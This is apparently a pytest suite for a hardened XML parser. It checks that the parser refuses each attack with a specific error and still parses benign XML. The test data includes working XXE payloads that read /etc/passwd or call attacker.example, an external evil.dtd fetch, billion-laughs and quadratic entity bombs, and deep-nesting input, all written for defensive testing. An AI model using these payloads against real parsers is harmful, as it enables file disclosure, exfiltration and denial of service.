"""The hardened parser refuses each attack with its own error class and code, and parses honest XML."""

from __future__ import annotations

import pytest
from lxml import etree

from xca.errors import (
    XmlDtdForbiddenError,
    XmlEntityDeclarationError,
    XmlExternalDtdError,
    XmlExternalEntityError,
    XmlRefusedError,
    XmlSyntaxError,
    XmlTooDeepError,
    XmlTooLargeError,
)
from xca.safexml import MAX_DEPTH, parse_xml

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)
QUADRATIC = (
    b'<!DOCTYPE kaboom [<!ENTITY a "' + b"x" * 50_000 + b'">]><kaboom>' + b"&a;" * 50_000 + b"</kaboom>"
)

ATTACKS = [
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
        XmlExternalEntityError,
        "HG-2006",
        id="xxe-file",
    ),
    pytest.param(
        b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]><r>&xxe;</r>',
        XmlExternalEntityError,
        "HG-2006",
        id="xxe-url",
    ),
    pytest.param(
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>',
        XmlExternalEntityError,
        "HG-2006",
        id="xxe-parameter-entity",
    ),
    pytest.param(LAUGHS, XmlEntityDeclarationError, "HG-2005", id="billion-laughs"),
    pytest.param(QUADRATIC, XmlEntityDeclarationError, "HG-2005", id="quadratic-blowup"),
    pytest.param(
        b'<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>',
        XmlExternalDtdError,
        "HG-2004",
        id="external-dtd",
    ),
    pytest.param(
        b'<!DOCTYPE r PUBLIC "-//X//DTD X//EN" "file:///etc/x.dtd"><r/>',
        XmlExternalDtdError,
        "HG-2004",
        id="external-dtd-public",
    ),
    pytest.param(b"<!DOCTYPE r><r/>", XmlDtdForbiddenError, "HG-2003", id="bare-doctype"),
    pytest.param(b"<a>" * 10_000 + b"</a>" * 10_000, XmlTooDeepError, "HG-2007", id="deep-nesting"),
    pytest.param(b"<r>&undeclared;</r>", XmlSyntaxError, "HG-2002", id="undeclared-entity"),
    pytest.param(b"<r><a></r>", XmlSyntaxError, "HG-2002", id="not-well-formed"),
    pytest.param(b"", XmlSyntaxError, "HG-2002", id="empty"),
]


@pytest.mark.parametrize("collect_ids", [True, False])
@pytest.mark.parametrize(("data", "error", "code"), ATTACKS)
def test_attack_is_refused_with_specific_error(
    data: bytes, error: type[XmlRefusedError], code: str, collect_ids: bool
) -> None:
    with pytest.raises(error) as caught:
        parse_xml(data, collect_ids=collect_ids)
    assert type(caught.value) is error
    assert caught.value.code == code
    assert isinstance(caught.value, ValueError)


def test_external_entity_contents_never_reach_the_tree() -> None:
    with pytest.raises(XmlExternalEntityError) as caught:
        parse_xml(b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><r>&xxe;</r>')
    assert caught.value.detail == {"entities": ["xxe"]}


def test_oversized_input_is_refused_before_parsing() -> None:
    data = b"<r>" + b"x" * 2048 + b"</r>"
    with pytest.raises(XmlTooLargeError) as caught:
        parse_xml(data, max_bytes=1024)
    assert caught.value.detail == {"size": len(data), "limit": 1024}


@pytest.mark.parametrize("large_text", [False, True])
def test_depth_limit_holds_with_and_without_large_text(large_text: bool) -> None:
    ok = b"<a>" * (MAX_DEPTH - 1) + b"</a>" * (MAX_DEPTH - 1)
    assert parse_xml(ok, large_text=large_text).tag == "a"
    too_deep = b"<a>" * 1000 + b"</a>" * 1000
    with pytest.raises(XmlTooDeepError):
        parse_xml(too_deep, large_text=large_text)


def test_large_text_opt_in_accepts_big_inline_document() -> None:
    big = b"<Document>" + b"QUJD" * (3 * 1024 * 1024) + b"</Document>"
    with pytest.raises(XmlSyntaxError):
        parse_xml(big, max_bytes=64 * 1024 * 1024)
    root = parse_xml(big, max_bytes=64 * 1024 * 1024, large_text=True)
    assert len(root.text or "") == 12 * 1024 * 1024


def test_large_text_still_refuses_entities() -> None:
    with pytest.raises(XmlEntityDeclarationError):
        parse_xml(LAUGHS, large_text=True)


def test_honest_xml_with_namespaces_comments_and_stylesheet_pi_parses() -> None:
    data = (
        b'<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="cda.xsl"?>'
        b'<ClinicalDocument xmlns="urn:hl7-org:v3"><!-- note --><title>Caf\xc3\xa9</title></ClinicalDocument>'
    )
    root = parse_xml(data)
    assert root.tag == "{urn:hl7-org:v3}ClinicalDocument"
    assert root.findtext("{urn:hl7-org:v3}title") == "Café"


def test_text_input_is_rejected() -> None:
    with pytest.raises(TypeError):
        parse_xml("<r/>")  # type: ignore[arg-type]


def test_parser_does_not_fetch_network_dtd_for_schema_location() -> None:
    root = parse_xml(
        b'<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        b'xsi:schemaLocation="urn:x http://attacker.example/x.xsd"/>'
    )
    assert etree.QName(root).localname == "r"


def test_collect_ids_off_skips_only_the_xml_id_hash() -> None:
    data = b'<r><a xml:id="first">1</a><b ID="second">2</b></r>'
    with_ids = parse_xml(data)
    without = parse_xml(data, collect_ids=False)
    assert [e.text for e in with_ids.xpath("id('first')")] == ["1"]
    assert without.xpath("id('first')") == []
    assert etree.tostring(without) == etree.tostring(with_ids)


def test_collect_ids_off_still_refuses_entities_and_dtds() -> None:
    with pytest.raises(XmlEntityDeclarationError):
        parse_xml(LAUGHS, large_text=True, collect_ids=False)
    with pytest.raises(XmlDtdForbiddenError):
        parse_xml(b"<!DOCTYPE r><r/>", collect_ids=False)


def test_the_package_exports_parse_xml() -> None:
    import xca  # imported on first use: the package itself does not load lxml

    assert xca.parse_xml is parse_xml
